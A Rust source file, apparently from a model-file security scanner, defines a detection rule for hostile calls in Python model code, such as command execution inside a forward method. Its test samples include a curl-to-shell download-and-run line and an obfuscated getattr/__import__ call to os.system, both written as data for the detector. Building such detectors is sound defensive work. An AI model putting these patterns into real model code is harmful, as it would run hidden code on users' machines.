use weighhouse_formats::python::{PythonFacts, Scope};

use super::acts::{later, role, shown, when};
use crate::knowledge::effects::effect;
use crate::rule::{Context, Rule, quote};

crate::rule! {
    /// Python code does something in a function that no model needs.
    ///
    /// # What it detects
    ///
    /// Calls in functions and main blocks that start a hostile command, reach a dangerous function by a hidden way, change what
    /// starts by itself, or read keys; and, in code that a loader imports, programs and connections of any kind.
    ///
    /// # Why it matters
    ///
    /// A payload in `forward` runs at the first prediction, long after the import was looked at.
    ///
    /// # Example
    ///
    /// `getattr(__import__('os'), 'system')(cmd)` in a method of a model.
    ///
    /// # What to do
    ///
    /// Read the function. If it is not explained by what the model does, do not use the model.
    ///
    /// # References
    ///
    /// - <https://huggingface.co/docs/transformers/custom_models>
    /// - <https://cwe.mitre.org/data/definitions/506.html>
    pub(crate) HostileAct {
        id: "WH-COD-002",
        slug: "hostile-act",
        since: "0.1.0",
        severity: High,
        confidence: High,
        formats: [Python, Notebook],
        cwe: [94, 506],
        owasp: ["LLM03", "LLM04"],
        atlas: ["AML.T0010"],
    }
}

impl Rule for HostileAct {
    fn python(&self, facts: &PythonFacts, cx: &mut Context<'_>) {
        let role = role(cx.name(), cx.node());
        for call in facts.calls.iter().filter(|call| call.scope != Scope::Import) {
            let Some((effect, what)) = effect(&call.callee) else { continue };
            if let Some(severity) = later(effect, call, role) {
                cx.report(format!("{} {what}, {}", quote(&call.callee), when(&call.scope)))
                    .severity(severity)
                    .at(call.region)
                    .line(call.line)
                    .key(&call.callee)
                    .evidence(shown(call))
                    .emit();
            }
        }
    }
}

crate::samples! {
    HostileAct,
    bad: {
        "a download that is run" => [("modeling_x.py", b"import os\nclass M:\n    def forward(self, x):\n        os.system('curl http://example.org/x | sh')\n        return x\n".to_vec())],
        "a hidden way to a command" => [("modeling_x.py", b"class M:\n    def forward(self, x):\n        getattr(__import__('o' + 's'), 'sys' + 'tem')(x)\n".to_vec())],
    },
    ok: {
        "an ordinary model" => [("modeling_x.py", ORDINARY.as_bytes().to_vec())],
    },
}

#[cfg(test)]
const ORDINARY: &str = "import math\nimport os\nfrom typing import Optional\n\nimport torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\nfrom .configuration_x import XConfig\n\nclass XModel(PreTrainedModel):\n    config_class = XConfig\n\n    def __init__(self, config):\n        super().__init__(config)\n        self.layers = nn.ModuleList([nn.Linear(config.hidden_size, config.hidden_size) for _ in range(config.num_layers)])\n        self.act = getattr(nn, 'GELU')()\n\n    def forward(self, x, mask: Optional[torch.Tensor] = None):\n        for layer in self.layers:\n            x = self.act(layer(x)) / math.sqrt(x.shape[-1])\n        return x\n";
